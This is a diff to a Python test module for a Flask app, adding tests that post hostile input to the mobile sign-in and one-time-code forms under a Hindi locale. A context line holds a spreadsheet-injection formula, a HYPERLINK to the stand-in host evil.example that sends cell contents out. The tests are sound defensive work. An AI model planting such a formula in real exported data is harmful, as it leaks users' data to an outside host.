@@ -54,6 +54,9 @@ NO_TEXT_FIELDS = {
     "logins.link",
 }
 
+# The forms of someone not signed in: posted by the tests at the end of this module.
+ANONYMOUS_FORMS = {"auth.login", "auth.login_mobile", "auth.login_code"}
+
 FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
 # The Hindi of WTForms' Length messages: "अधिकतम %(max)d अक्षर …", "… %(min)d से %(max)d अक्षरों के बीच …".
 LENGTH_HI = ("अधिकतम", "अक्षरों के बीच")
@@ -277,7 +280,7 @@ def test_every_page_form_holds_under_hostile_input_in_hindi(app, client, auth, w
         found["reviews.autosave"] = (username, action.replace("/edit", "/autosave"), form)
 
     post_routes = {r.endpoint for r in app.url_map.iter_rules()
-                   if "POST" in r.methods and not r.rule.startswith("/api/") and r.endpoint != "auth.login"}
+                   if "POST" in r.methods and not r.rule.startswith("/api/") and r.endpoint not in ANONYMOUS_FORMS}
     with_text = {e for e, (_u, _a, f) in found.items() if f["text"]}
     unreached = post_routes - with_text - NO_TEXT_FIELDS
     assert not unreached, f"POST routes with text fields that the crawl did not reach: {sorted(unreached)}"
@@ -308,4 +311,20 @@ def test_the_login_form_holds_under_hostile_input(client, field, limit):
         response = client.post("/login", data=data, headers={"Accept-Language": "hi"})
         kind = "password" if field == "password" else "line"  # a password may hold any character
         problems += _check(response, what, kind, f"login {field} {what}")
+    assert problems == [], "\n".join(problems)
+
+
+def test_the_mobile_sign_in_forms_hold_under_hostile_input(client):
+    from tracker.auth.views import MOBILE_KEY
+
+    problems = []
+    for what, value in hostile_values(40):
+        response = client.post("/login/mobile", data={"mobile": value}, headers={"Accept-Language": "hi"})
+        problems += _check(response, what, "line", f"mobile {what}")
+    with client.session_transaction() as session:
+        session[MOBILE_KEY] = "+919425000001"
+    for what, value in hostile_values(20):
+        response = client.post("/login/code", data={"code": value}, headers={"Accept-Language": "hi"})
+        problems += _check(response, what, "line", f"code {what}")
+        assert response.status_code in (200, 400, 401), (what, response.status_code)  # never signed in
     assert problems == [], "\n".join(problems)
